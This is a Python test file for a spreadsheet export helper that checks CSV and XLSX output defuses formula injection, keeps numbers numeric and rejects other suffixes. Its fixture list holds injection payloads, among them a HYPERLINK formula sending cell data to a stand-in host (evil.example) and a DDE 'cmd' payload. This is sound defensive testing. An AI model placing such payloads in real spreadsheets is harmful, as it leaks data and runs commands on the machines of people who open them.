"""Exports a spreadsheet opens without running anything: hostile text stays text, numbers stay numbers."""
from __future__ import annotations

import openpyxl
import pandas as pd
import pytest

from soe_helpers.core.exports import export_table, neutralise, read_table

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "-2+3", "\tTabbed", "\rReturn", "'=already quoted"]
SAFE = ["Acme", "-12.5", "Café = good", ""]


def _frame():
    names = HOSTILE + SAFE
    return pd.DataFrame({"customer": names,
                         "variance": [-1234.5 - i for i in range(len(names))],
                         "lines": list(range(-3, len(names) - 3)),
                         "week": pd.to_datetime(["2026-11-16"] * len(names))})


def test_csv_neutralises_text_and_keeps_numbers(tmp_path):
    df = _frame()
    path = export_table(df, tmp_path / "variance_register.csv")
    raw = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert raw["customer"].tolist() == [
        "'" + HOSTILE[0], "'+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'-2+3", "'\tTabbed", "'\rReturn",
        "''=already quoted", "Acme", "-12.5", "Café = good", ""]
    bad = [v for v in raw.to_numpy().ravel() if v.startswith(("=", "+", "@", "\t", "\r"))
           or (v.startswith("-") and not v.lstrip("-").replace(".", "").isdigit())]
    assert bad == [], f"{path.name}: cells that a spreadsheet would run: {bad}"
    assert raw["variance"].iloc[0] == "-1234.5" and raw["lines"].iloc[0] == "-3"  # numbers, not quoted text
    back = read_table(path, keep_default_na=False)
    assert back["customer"].tolist() == df["customer"].tolist()  # read back exactly as exported
    assert back["variance"].tolist() == df["variance"].tolist()


def test_xlsx_never_holds_a_formula_and_numbers_stay_numbers(tmp_path):
    df = _frame()
    howto = pd.DataFrame({"How to edit": ["=1+1 is text here", "edit owner only"]})
    path = export_table(df, tmp_path / "variance_register.xlsx", sheet_name="Variances",
                        more_sheets={"How to edit": howto})
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["Variances", "How to edit"]
    formulas = [f"{ws.title}!{c.coordinate}={c.value!r}" for ws in wb for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == [], f"{path.name}: cells written as formulas: {formulas}"
    ws = wb["Variances"]
    # the text itself, no quote shown (XML stores a carriage return as a line feed)
    assert [c.value for c in ws["A"][1:]] == [(v or None) and v.replace("\r", "\n") for v in df["customer"]]
    assert [c.quotePrefix for c in ws["A"][1:9]] == [True] * 6 + [False, False]  # "'=..." and "Acme" are plain text
    assert ws["B2"].data_type == "n" and ws["B2"].value == -1234.5 and ws["C2"].value == -3
    assert wb["How to edit"]["A2"].data_type == "s"


def test_xlsx_drops_characters_excel_cannot_hold(tmp_path):
    path = export_table(pd.DataFrame({"name": ["Ac\x00me", "Bolt\tInc"]}), tmp_path / "x.xlsx")
    assert [c.value for c in openpyxl.load_workbook(path).active["A"][1:]] == ["Acme", "Bolt\tInc"]


def test_only_text_is_touched_and_the_input_is_not_mutated():
    df = pd.DataFrame({"t": pd.Series(["=x", None, "ok"], dtype="str"), "n": [-1.0, None, 3.0],
                       "o": [-5, "=y", None]})
    out = neutralise(df)
    assert out["t"].tolist()[0] == "'=x" and pd.isna(out["t"].iloc[1]) and out["o"].tolist()[:2] == [-5, "'=y"]
    assert out["n"].tolist()[0] == -1.0 and df["t"].iloc[0] == "=x"


def test_other_suffixes_are_refused(tmp_path):
    with pytest.raises(ValueError, match="x.json: export to a .csv or .xlsx file"):
        export_table(pd.DataFrame({"a": [1]}), tmp_path / "x.json")
